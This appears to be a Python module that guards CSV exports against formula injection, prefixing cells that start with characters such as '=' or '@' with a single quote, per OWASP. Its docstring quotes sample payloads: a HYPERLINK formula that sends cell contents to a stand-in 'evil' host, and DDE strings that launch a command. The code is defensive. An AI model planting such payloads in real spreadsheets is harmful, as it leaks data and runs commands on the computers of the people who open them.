"""CSV cells a spreadsheet cannot evaluate: OWASP's rule against CSV (formula) injection.

A symbol comes from a broker or a file we do not control. Written raw into a CSV file, a
cell such as `=HYPERLINK("http://evil/?"&A1,"AAPL")`, `+cmd|' /C calc'!A0` or
`@SUM(1+1)*cmd|' /C calc'!A0` is a formula to Excel, LibreOffice and Google Sheets, run
when an operator opens the file. Following OWASP, a cell that starts with `=`, `+`, `-`,
`@`, a tab or a carriage return is prefixed with a single quote (the spreadsheet then
shows it as text, the quote hidden), and every field is quoted (`csv.QUOTE_ALL`), so an
embedded separator or quote cannot end the cell early.

A plain decimal number (`-12.50`, the figures this service writes) is left as it is: it
cannot be a formula, and a spreadsheet or a script reading the file keeps it a number.
"""

from __future__ import annotations

import re

__all__ = ["FORMULA_STARTS", "spreadsheet_cell"]

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
"""The first characters that make a spreadsheet read a cell as a formula (OWASP)."""

_PLAIN_NUMBER = re.compile(r"[+-]?(?:\d+\.?\d*|\.\d+)")


def spreadsheet_cell(text: str) -> str:
    """`text`, prefixed with a single quote if a spreadsheet would evaluate it."""
    if text.startswith(FORMULA_STARTS) and not _PLAIN_NUMBER.fullmatch(text):
        return f"'{text}"
    return text
